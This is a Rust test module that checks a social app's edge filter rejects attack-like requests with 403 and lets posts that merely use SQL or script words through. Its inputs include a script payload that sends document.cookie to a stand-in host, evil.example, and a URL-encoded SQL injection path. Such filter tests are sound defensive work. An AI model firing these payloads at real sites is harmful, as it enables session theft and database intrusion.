//! What looks like an attack is refused at the edge; what only has the words of one is somebody's post.

use postern_tests::{Social, Table};

use crate::accounts::PASSWORD;

pub(crate) fn show(table: &mut Table, social: &Social) {
    let bob = social.token("bob", PASSWORD);
    let post = |text: &str| social.ask_as(&bob, "/posts", &["-d", text]).words();
    let script = post("<script>fetch('https://evil.example/?'+document.cookie)</script>");
    table.row("bob", "edge", "POST /posts: a script", "403 threat_detected", &script);
    let path = "/profiles/ann%27%20OR%20%271%27%3D%271%27%20--%20?as=1%27%20OR%20%271%27%3D%271";
    let injected = social.ask_as(&bob, path, &[]).words();
    let what = "GET /profiles/…?as=1' OR '1'='1";
    table.row("bob", "edge", what, "403 threat_detected", &injected);
    for text in [
        "I'd select the union of both; drop by my table & let's see -- 1 < 2, isn't it?",
        "My script is done: it's where an alert cat sleeps, and I love it <3",
    ] {
        let what = format!("POST /posts: {} …", text.chars().take(24).collect::<String>());
        table.row("bob", "posts", &what, "201", &post(text));
    }
}
